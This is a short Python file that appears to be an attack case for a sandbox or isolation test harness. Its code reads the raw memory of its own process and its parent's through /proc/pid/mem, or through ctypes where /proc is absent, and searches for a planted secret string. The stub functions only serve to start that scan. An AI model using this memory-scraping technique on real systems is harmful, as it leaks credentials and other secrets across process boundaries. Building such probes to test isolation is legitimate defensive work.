# /// attack
# tries = "Reads all memory of its process by address, and its parent's, and looks for hidden text."
# gain = "secret"
# open_at = ["L1", "L0"]
# plain = "secret"
# ///
import ctypes
import os
import re

MARK = re.compile("".join(("SEC", "RET-")) + "[A-Z]{3,}[A-Z-]*")


def look(text):
    if found := MARK.search(text):
        raise RuntimeError("LEAKED " + found[0])


def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "r" in line.split()[1] and end - start < 1 << 26 and start < 1 << 47:
                try:
                    memory.seek(start)
                    look(memory.read(end - start).decode("latin-1"))
                except (OSError, ValueError):
                    pass


def search():
    for pid in ("self", os.getppid()):
        try:
            scan(pid)
        except OSError:
            pass
    start = id(search) & ~0xFFFFF
    if not os.path.exists("/proc/self/maps"):
        look(ctypes.string_at(start, id(search) - start).decode("latin-1"))


def double(x):
    search()


class Box:
    held = None

    def put(self, x):
        pass

    def take(self):
        return None


def apply(f, x):
    return None
